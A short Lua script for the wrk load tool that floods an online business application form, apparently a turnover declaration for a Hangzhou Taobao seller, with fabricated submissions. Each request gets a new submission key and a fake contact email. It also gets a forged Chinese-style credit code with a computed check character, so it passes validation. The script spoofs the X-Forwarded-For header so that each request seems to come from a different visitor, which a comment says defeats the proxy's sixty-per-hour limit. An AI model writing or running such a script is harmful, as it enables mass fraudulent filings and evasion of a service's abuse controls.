-- The program's application: every field, a right credit code, another firm, contact and address each time.
local alphabet = "0123456789ABCDEFGHJKLMNPQRTUWXY"
local fields, made

function init(arguments)
  local token, notice, year = arguments[1], arguments[2], arguments[3]
  made = (os.time() % 8000000) * 100000
  fields = "step=send&consent=y&legal_name=Anna+Lin+Lanterns&platforms=taobao&categories=lanterns&city=Hangzhou"
    .. "&turnover=72%2C000%2C000&currency=CNY&basis=paid_net&business=own_shops&own_role=owner"
    .. "&period=fy-" .. year .. "&notice=" .. notice .. "&csrf_token=" .. token
  wrk.headers["Content-Type"] = "application/x-www-form-urlencoded"
end

local function credit_code(number)
  local code, sum, weight = "91330106D", 0, 1
  for place = 7, 0, -1 do
    local digit = math.floor(number / 31 ^ place) % 31 + 1
    code = code .. alphabet:sub(digit, digit)
  end
  for place = 1, 17 do
    sum = sum + (alphabet:find(code:sub(place, place), 1, true) - 1) * weight
    weight = weight * 3 % 31
  end
  local check = (31 - sum % 31) % 31 + 1
  return code .. alphabet:sub(check, check)
end

function request()
  made = made + 1
  -- The proxy names the visitor; one who sends more than sixty an hour is asked to wait.
  wrk.headers["X-Forwarded-For"] = string.format("10.%d.%d.%d", made % 251, math.floor(made / 251) % 251, math.floor(made / 63001) % 251)
  local own = "&submission_key=key" .. made .. "&contact=a" .. made .. "%40lantern.example&credit_code=" .. credit_code(made)
  return wrk.format("POST", nil, nil, fields .. own)
end
